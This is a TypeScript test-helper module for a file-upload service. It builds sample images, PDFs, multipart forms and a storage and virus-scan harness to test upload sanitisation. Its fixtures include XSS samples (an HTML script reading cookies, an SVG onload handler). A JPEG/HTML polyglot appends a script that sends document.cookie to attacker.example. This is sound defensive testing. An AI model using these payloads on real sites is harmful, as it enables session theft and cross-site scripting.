import { randomUUID } from "node:crypto";
import { mkdtemp, readdir, rm } from "node:fs/promises";
import { connect, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { citizen } from "../../db/schema/index.ts";
import type { Database } from "../../db/client.ts";
import { createFsStorage } from "../../integrations/storage/fs-storage.ts";
import { createS3Storage } from "../../integrations/storage/s3-storage.ts";
import type { ObjectStorage } from "../../integrations/storage/storage.ts";
import { startFakeS3, type FakeS3 } from "../../test/fake-s3.ts";
import { startTestServer, type TestServer } from "../../test/http-server.ts";
import { memoryLogger } from "../../test/logger.ts";
import { mountForTest } from "../../test/module-app.ts";
import { createSessionService } from "../identity/session.service.ts";
import { createClamdScanner } from "./clamd-scanner.ts";
import { createUploadsService, type UploadLimits } from "./uploads.service.ts";
import { uploadsRoutes } from "./uploads.routes.ts";

const solid = (format: "jpeg" | "png") => sharp({ create: { width: 8, height: 8, channels: 3, background: "#c8783c" } })[format]().toBuffer();

/** Small files of each kind: images that really decode (they are re-encoded), the smallest PDF and HEIC headers file-type recognises. */
export const samples = {
  jpeg: await solid("jpeg"),
  png: await solid("png"),
  pdf: Buffer.from("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
  heic: Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypheic"), Buffer.from([0, 0, 0, 0]), Buffer.from("mif1heic")]),
  html: Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"),
  svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'),
  exe: Buffer.concat([Buffer.from("MZ"), Buffer.alloc(126, 0x90)]),
  zip: Buffer.from("504b030414000000080000000000000000000000000000000000080000006d696d6574797065", "hex"),
  text: Buffer.from("Họ và tên: Nguyễn Văn A\n"),
};

/** A photo-like JPEG (noise does not compress away) of the given size. */
export const photoJpeg = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: "#808080", noise: { type: "gaussian", mean: 128, sigma: 40 } } })
    .jpeg({ quality: 90 })
    .toBuffer();

export const TRAILING_SCRIPT = "<script>fetch('https://attacker.example/?c='+document.cookie)</script>";

/**
 * A phone photo as a careless app sends it: 64 × 48 pixels stored sideways with EXIF orientation 6
 * (so upright it is 48 × 64), an EXIF block with the camera and GPS position, and a script after the
 * image's end marker (a JPEG/HTML polyglot).
 */
export async function jpegWithGpsAndScript(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 64, height: 48, channels: 3, background: "#808080", noise: { type: "gaussian", mean: 128, sigma: 40 } } })
    .withExif({
      IFD0: { Make: "Apple", Model: "iPhone 15" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "10/1 57/1 0/1", GPSLongitudeRef: "E", GPSLongitude: "106/1 50/1 0/1" },
    })
    .withMetadata({ orientation: 6 })
    .jpeg({ quality: 90 })
    .toBuffer();
  return Buffer.concat([jpeg, Buffer.from(TRAILING_SCRIPT)]);
}

/** An indirect object's body holding a stream: the dictionary (Length added) and the raw data. */
export const pdfStream = (dictionary: string, data: Buffer) =>
  Buffer.concat([Buffer.from(`<<${dictionary}/Length ${data.length}>>\nstream\n`), data, Buffer.from("\nendstream")]);

/** An object stream holding `objects` (numbered from `first`), zlib-compressed as PDF writers do. */
export function objectStream(first: number, objects: string[]): Buffer {
  const bodies = objects.map((o) => `${o}\n`);
  let offset = 0;
  const index = bodies.map((body, i) => `${first + i} ${(offset += body.length) - body.length}`).join(" ") + "\n";
  const data = deflateSync(Buffer.from(index + bodies.join("")));
  return pdfStream(`/Type/ObjStm/N ${objects.length}/First ${index.length}/Filter/FlateDecode`, data);
}

/**
 * A PDF whose objects 1, 2, … are the given bodies (object 1 is the catalog), with the header, a
 * correct cross-reference table and trailer a reader needs.
 */
export function pdfOf(objects: Array<string | Buffer>): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let length = parts[0]!.length;
  const offsets = objects.map((body, i) => {
    const object = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.from(body), Buffer.from("\nendobj\n")]);
    parts.push(object);
    length += object.length;
    return length - object.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`)].join("");
  parts.push(Buffer.from(`${xref}trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** A one-page PDF: catalog, page tree, page, content; `catalog` and `page` add entries to those dictionaries. */
export function onePagePdf({ catalog = "", page = "", more = [] }: { catalog?: string; page?: string; more?: Array<string | Buffer> } = {}): Buffer {
  return pdfOf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R${page}>>`,
    pdfStream("", Buffer.from("BT /F1 12 Tf 72 770 Td (To khai) Tj ET")),
    ...more,
  ]);
}

export const pdfOfSize = (bytes: number) => Buffer.concat([samples.pdf, Buffer.alloc(Math.max(0, bytes - samples.pdf.length), 0x20)]);

export interface Part {
  name: string;
  /** Written verbatim into the part header, so tests can send what browsers never would. */
  disposition?: string;
  filename?: string;
  contentType?: string;
  data: Buffer;
}

export const BOUNDARY = "----motcua-test-boundary-7d1f";

export function multipart(parts: Part[], boundary = BOUNDARY): Buffer {
  const chunks = parts.flatMap((p) => {
    const disposition = p.disposition ?? `form-data; name="${p.name}"${p.filename === undefined ? "" : `; filename="${p.filename}"`}`;
    const head = `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${p.contentType ? `Content-Type: ${p.contentType}\r\n` : ""}\r\n`;
    return [Buffer.from(head), p.data, Buffer.from("\r\n")];
  });
  return Buffer.concat([...chunks, Buffer.from(`--${boundary}--\r\n`)]);
}

export const fileForm = (filename: string, data: Buffer, contentType = "application/octet-stream") =>
  multipart([{ name: "file", filename, contentType, data }]);

export interface RawResponse {
  status: number;
  head: string;
  body: string;
}

/** Reads one HTTP/1.1 response off a raw socket (Content-Length framed, as all our problems are). */
export function readResponse(socket: Socket): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    let data = Buffer.alloc(0);
    const onData = (chunk: Buffer) => {
      data = Buffer.concat([data, chunk]);
      const end = data.indexOf("\r\n\r\n");
      if (end < 0) return;
      const head = data.subarray(0, end).toString("latin1");
      const length = Number(/\r\ncontent-length: *(\d+)/i.exec(head)?.[1] ?? 0);
      if (data.length < end + 4 + length) return;
      socket.off("data", onData);
      resolve({ status: Number(head.split(" ")[1]), head, body: data.subarray(end + 4, end + 4 + length).toString("utf8") });
    };
    socket.on("data", onData);
    socket.once("error", reject);
    socket.once("close", () => reject(new Error(`socket closed before a full response: ${data.toString("latin1").slice(0, 200)}`)));
  });
}

export function openSocket(url: string): Promise<Socket> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname, () => resolve(socket));
    socket.once("error", reject);
  });
}

export interface UploadsHarness {
  server: TestServer;
  logLines: string[];
  storage: ObjectStorage;
  /** The directory objects live in (fs) or null for S3. */
  objectDir: string | null;
  s3: FakeS3 | null;
  limits: UploadLimits;
  clock: { now: Date };
  signIn(): Promise<{ citizenId: string; token: string }>;
  objectCount(): Promise<number>;
  clearObjects(): Promise<void>;
  close(): Promise<void>;
}

export const testLimits: UploadLimits = { maxBytes: 3 * 1024 * 1024, dailyFiles: 4, dailyBytes: 6 * 1024 * 1024, ttlHours: 24 };

/** The uploads router on a real socket, with real storage under a throw-away directory; virus-scanned when given a clamd. */
export async function startUploadsHarness(database: Database, storageKind: "fs" | "s3" = "fs", options: { clamdUrl?: string } = {}): Promise<UploadsHarness> {
  const dir = await mkdtemp(join(tmpdir(), "motcua-uploads-"));
  const s3 = storageKind === "s3" ? await startFakeS3() : null;
  const objectDir = s3 ? null : join(dir, "uploads");
  const storage = s3 ? await createS3Storage({ ...s3, tempDir: join(dir, "tmp") }) : await createFsStorage(objectDir as string);
  const clock = { now: new Date() };
  const sessions = createSessionService({ db: database.db, ttlMinutes: 60 });
  const { logger, lines } = memoryLogger();
  const scanner = options.clamdUrl ? createClamdScanner({ url: options.clamdUrl, timeoutMs: 10_000, logger }) : undefined;
  const uploads = createUploadsService({ db: database.db, storage, limits: testLimits, scanner, now: () => clock.now });
  const server = await startTestServer(mountForTest(uploadsRoutes({ uploads, sessions }), logger));
  return {
    server,
    logLines: lines,
    storage,
    objectDir,
    s3,
    limits: testLimits,
    clock,
    async signIn() {
      const [row] = await database.db.insert(citizen).values({ zaloId: `zalo-${randomUUID()}`, name: "Nguyễn Văn A" }).returning();
      const citizenId = row!.id;
      return { citizenId, token: (await sessions.issue("citizen", citizenId)).token };
    },
    async objectCount() {
      if (s3) return s3.objects.size;
      return (await readdir(objectDir as string)).filter((name) => name !== ".tmp").length;
    },
    async clearObjects() {
      if (s3) return s3.objects.clear();
      for (const name of await readdir(objectDir as string)) if (name !== ".tmp") await rm(join(objectDir as string, name));
    },
    async close() {
      await server.close();
      await s3?.close();
      await rm(dir, { recursive: true, force: true });
    },
  };
}
